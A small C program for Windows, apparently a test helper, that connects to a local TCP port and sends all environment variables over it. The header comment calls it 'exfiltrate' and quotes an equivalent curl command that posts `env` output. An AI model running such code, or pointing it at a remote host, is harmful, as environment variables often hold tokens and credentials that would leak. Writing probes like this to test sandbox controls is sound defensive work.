// exfiltrate PORT: what `curl 127.0.0.1:PORT -d "$(env)"` does; prints `sent`, or the error of
// connect().
#include <winsock2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <windows.h>

int main(int count, char **words)
{
	struct sockaddr_in address = { 0 };
	char *block, *variable;
	WSADATA data;
	SOCKET s;

	if (count != 2 || WSAStartup(MAKEWORD(2, 2), &data))
		return 2;
	s = socket(AF_INET, SOCK_STREAM, 0);
	address.sin_family = AF_INET;
	address.sin_port = htons(atoi(words[1]));
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(s, (struct sockaddr *)&address, sizeof(address))) {
		printf("connect: %d\n", WSAGetLastError());
		return 1;
	}
	block = GetEnvironmentStringsA();
	for (variable = block; *variable; variable += strlen(variable) + 1) {
		send(s, variable, strlen(variable), 0);
		send(s, "\n", 1, 0);
	}
	closesocket(s);
	printf("sent\n");
	return 0;
}
